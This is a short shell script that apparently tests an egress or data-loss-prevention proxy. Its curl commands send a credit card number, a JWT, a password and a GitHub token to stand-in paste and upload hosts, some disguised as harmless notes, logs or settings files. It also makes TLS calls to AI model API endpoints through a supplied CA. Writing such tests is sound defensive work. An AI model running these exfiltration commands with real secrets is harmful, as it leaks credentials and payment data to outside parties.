#!/bin/sh
# curl, in clear and over TLS.  Arguments: the CA file, then KIND=VALUE words.
set -eu
ca=$1
shift
for word; do
	export "v_$word"
done
curl -sS --max-time 10 -o /dev/null "http://paste.example.net/p" -H 'Content-Type: application/json' \
	-d "{\"text\":\"card $v_credit_card, please charge\",\"tags\":[\"a\",\"b\"]}"
curl -sS --max-time 10 -o /dev/null "http://paste.example.net/f" --data-urlencode "text=token $v_jwt end" -d 'lang=en'
curl -sS --max-time 10 -o /dev/null "http://files.example.net/up" -F "note=nothing to see" \
	-F "file=@-;filename=settings.ini;type=text/plain" <<EOF
[db]
user = ledger
$v_password_assignment
EOF
printf '{"log":"cloned with %s ok"}' "$v_github_pat" | curl -sS --max-time 10 -o /dev/null -T - \
	"http://files.example.net/log" -H 'Content-Type: application/json'
curl -sS --max-time 10 -o /dev/null "http://paste.example.net/clean?q=opening+hours&page=2"
curl -sS --max-time 10 -o /dev/null --cacert "$ca" "https://api.openai.com/v1/models" "https://api.anthropic.com/v1/models"
curl -sS --max-time 10 -o /dev/null --cacert "$ca" --tls-max 1.2 "https://generativelanguage.googleapis.com/v1beta/models"
curl -sS --max-time 10 -o /dev/null --cacert "$ca" "https://www.example.com/big"
